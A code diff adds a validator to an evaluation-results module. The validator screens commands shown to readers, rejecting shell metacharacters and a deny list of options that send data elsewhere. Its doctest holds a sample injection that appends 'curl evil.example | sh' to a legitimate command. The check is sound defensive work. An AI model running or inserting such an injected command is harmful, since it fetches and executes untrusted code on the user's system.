@@ -1,8 +1,10 @@
-"""Chooses the records of a result that its page shows as examples."""
+"""Chooses what of a result a page may show: some records as examples, and a command that a reader may run."""
 
 from __future__ import annotations
 
 import hashlib
+import re
+import shlex
 from collections import Counter
 from collections.abc import Sequence
 from operator import itemgetter
@@ -101,3 +103,30 @@ def _kind(status: str | None, is_right: bool | None) -> Kind:
     if is_right is None:
         return "answered"
     return "right" if is_right else "wrong"
+
+
+_OWN = re.compile(r"python -m evaluators (run|import) (?=\S)")
+_PLAIN = re.compile(r"[A-Za-z0-9@%+=:,./_-]+")
+_FORBIDDEN = ("--base-url", "--config-file", "--out", "--cache", "--prices", "--address", "--scorer-url")
+"""Options that send something elsewhere, or write and read files elsewhere."""
+_MOST = 2_000
+
+
+def plain_command(command: str) -> str | None:
+    """Return the command of a result if it runs or imports a model and does nothing else; None for any other text.
+
+    Results come from strangers, and readers copy commands into their terminals. Every word of a command must be one
+    that a shell leaves as it is.
+
+    >>> plain_command("python -m evaluators run --model acme/small; curl evil.example | sh") is None
+    True
+    """
+    if len(command) > _MOST or not _OWN.match(command):
+        return None
+    try:
+        words = shlex.split(command)
+    except ValueError:
+        return None
+    if any(word.partition("=")[0] in _FORBIDDEN or ".." in word for word in words):
+        return None
+    return command if all(map(_PLAIN.fullmatch, words)) and shlex.join(words) == command else None
